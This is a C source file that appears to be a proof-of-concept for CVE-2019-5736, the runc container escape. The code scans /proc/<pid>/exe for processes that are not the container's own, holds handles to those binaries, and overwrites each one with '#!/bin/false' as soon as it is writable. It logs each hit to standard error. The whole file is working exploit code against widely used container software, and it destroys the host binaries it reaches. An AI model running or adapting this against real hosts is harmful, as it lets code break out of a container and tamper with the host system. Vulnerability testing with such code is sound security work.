/*
 * CVE-2019-5736 without the script: watches for programs that are not the
 * guest's own, keeps a handle on their file, and writes to it as soon as it is
 * no longer busy. Reports what it saw and what it wrote on standard error.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void overwrite(int fd, const char *name)
{
	char copy[64];

	snprintf(copy, sizeof copy, "/proc/self/fd/%d", fd);
	for (int i = 0; i < 20000; i++) {
		int out = open(copy, O_WRONLY | O_CLOEXEC);

		if (out < 0)
			continue;
		if (write(out, "#!/bin/false\n", 13) > 0)
			fprintf(stderr, "WROTE %s\n", name);
		close(out);
		return;
	}
}

int main(void)
{
	for (;;) {
		for (int pid = 2; pid < 400; pid++) {
			char path[64], name[256] = "";
			int fd;

			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (readlink(path, name, sizeof name - 1) > 0 &&
			    !strstr(name, "busybox") && !strstr(name, "attack")) {
				fprintf(stderr, "seen %s\n", name);
				overwrite(fd, name);
			}
			close(fd);
		}
	}
}
